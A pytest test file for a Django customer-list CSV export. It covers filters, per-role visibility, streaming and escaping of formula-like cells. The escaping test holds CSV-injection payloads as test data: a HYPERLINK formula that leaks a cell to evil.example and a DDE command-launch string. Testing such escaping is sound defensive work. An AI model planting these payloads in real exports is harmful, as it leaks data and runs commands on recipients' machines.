"""CSV export of the customer list: its filters, who sees whom, escaped formulas, streaming."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from customers import exports, imports, tasks
from customers.models import Account, Customer, ImportJob
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # so Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def by_column(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_export_streams_every_visible_customer_with_a_header(client, marketer, manager):
    CustomerFactory(external_id="E1", first_name="Ann", owner=manager, consent_email=True)
    CustomerFactory(external_id="E2", first_name="Bob", account=Account.objects.create(name="Acme"))
    client.force_login(marketer)

    response = client.get("/customers/export.csv")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    rows = read_csv(response)
    assert rows[0] == list(exports.EXPORT_COLUMNS)
    ann, bob = sorted(by_column(rows), key=lambda row: row["external_id"])
    assert (ann["first_name"], ann["owner"], ann["consent_email"], ann["consent_sms"]) == (
        "Ann",
        "manager",
        "yes",
        "no",
    )
    assert (bob["first_name"], bob["account"], bob["owner"]) == ("Bob", "Acme", "")


def test_the_export_takes_the_lists_filters(client, marketer):
    CustomerFactory(external_id="F1", first_name="Ann", last_name="Lee", churn_risk=80)
    CustomerFactory(external_id="F2", first_name="Bob", last_name="Day", churn_risk=80)
    CustomerFactory(external_id="F3", first_name="Ann", last_name="Roe", churn_risk=5)
    client.force_login(marketer)

    rows = by_column(read_csv(client.get("/customers/export.csv?q=ann&risk=high")))

    assert [row["external_id"] for row in rows] == ["F1"]


def test_an_unknown_filter_value_is_a_bad_request(client, marketer):
    client.force_login(marketer)

    response = client.get("/customers/export.csv?risk=enormous")

    assert response.status_code == 400
    assert "risk" in response.content.decode()


def test_an_account_manager_exports_only_their_own_customers(client, manager, other_manager):
    CustomerFactory(external_id="M1", owner=manager)
    CustomerFactory(external_id="M2", owner=other_manager)
    CustomerFactory(external_id="M3", owner=manager, deleted_at="2025-01-01T00:00:00Z")
    client.force_login(manager)

    rows = by_column(read_csv(client.get("/customers/export.csv")))

    assert [row["external_id"] for row in rows] == ["M1"]


def test_a_user_without_a_role_is_refused(client, django_user_model):
    CustomerFactory(external_id="N1")
    client.force_login(django_user_model.objects.create_user("nobody"))

    response = client.get("/customers/export.csv")

    assert response.status_code == 403
    assert b"N1" not in response.content


def test_signed_out_visitors_are_sent_to_sign_in(client):
    response = client.get("/customers/export.csv")

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_formulas_are_exported_escaped(client, marketer):
    CustomerFactory(
        external_id="=1+1",
        first_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        last_name="+SUM(A1:A9)",
        postal_address="@cmd|' /C calc'!A0",
        timezone="",
        phone="+14155552671",
    )
    CustomerFactory(external_id="X2", first_name="-2+3", last_name="\tTab", postal_address="\rCR")
    CustomerFactory(external_id="X3", first_name="Plain = fine", last_name="O'Neil")
    client.force_login(marketer)

    rows = {
        row["bonding_id"]: row for row in by_column(read_csv(client.get("/customers/export.csv")))
    }

    first, second, third = (rows[str(pk)] for pk in Customer.objects.values_list("pk", flat=True))
    assert first["external_id"] == "'=1+1"
    assert first["first_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert first["last_name"] == "'+SUM(A1:A9)"
    assert first["postal_address"] == "'@cmd|' /C calc'!A0"
    assert first["phone"] == "'+14155552671"
    assert (second["first_name"], second["last_name"], second["postal_address"]) == (
        "'-2+3",
        "'\tTab",
        "'\rCR",
    )
    assert (third["first_name"], third["last_name"]) == ("Plain = fine", "O'Neil")


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_a_cell_is_escaped_when_it_starts_like_a_formula(value, escaped):
    assert exports.escape_cell(value) == escaped


def test_the_export_runs_a_fixed_number_of_queries(client, marketer, manager):
    client.force_login(marketer)
    accounts = [Account.objects.create(name=f"Co {n}") for n in range(3)]

    def export_queries(count: int) -> int:
        Customer.objects.all().delete()
        for n in range(count):
            CustomerFactory(external_id=f"Q{n}", owner=manager, account=accounts[n % 3])
        with CaptureQueriesContext(connection) as queries:
            rows = read_csv(client.get("/customers/export.csv?tier=prospect"))
        assert len(rows) == count + 1
        return len(queries)

    few, many = export_queries(3), export_queries(2100)  # over one fetch of 2,000

    # One query more per fetch of 2,000 rows: the chunk's topics.
    assert few <= 6 and many == few + 1


def test_an_export_imports_back_unchanged(client, marketer, manager):
    CustomerFactory(
        external_id="R1",
        first_name="=Ann",
        last_name="-Lee",
        phone="+14155552671",
        owner=manager,
        account=Account.objects.create(name="Acme"),
        consent_sms=True,
        estimated_wallet=Decimal("1200.50"),
        postal_address="1 Main St\nSpringfield",
        audience="b2b",
        relationship="customer",
        timezone="Europe/Paris",
    )
    CustomerFactory(external_id="R2", first_name="Bob", email="bob@example.com")
    client.force_login(marketer)
    exported = b"".join(client.get("/customers/export.csv").streaming_content)

    job = imports.store_upload(upload=SimpleUploadedFile("export.csv", exported), by=marketer)
    imports.set_mapping(job=job, mapping=job.mapping)
    ImportJob.objects.filter(pk=job.pk).update(status=ImportJob.Status.RUNNING)
    job = imports.run_import(job_id=job.pk, refresh_later=tasks.refresh_customers_task.delay)

    assert (job.status, job.unchanged, job.updated, job.created, job.rejected) == (
        "done",
        2,
        0,
        0,
        0,
    )
    mapped = {field for field in job.mapping.values() if field != imports.IGNORE}
    # A referral code is only for a new customer's first import: exports have none.
    assert mapped == set(imports.FIELDS) - {"referral_code"}
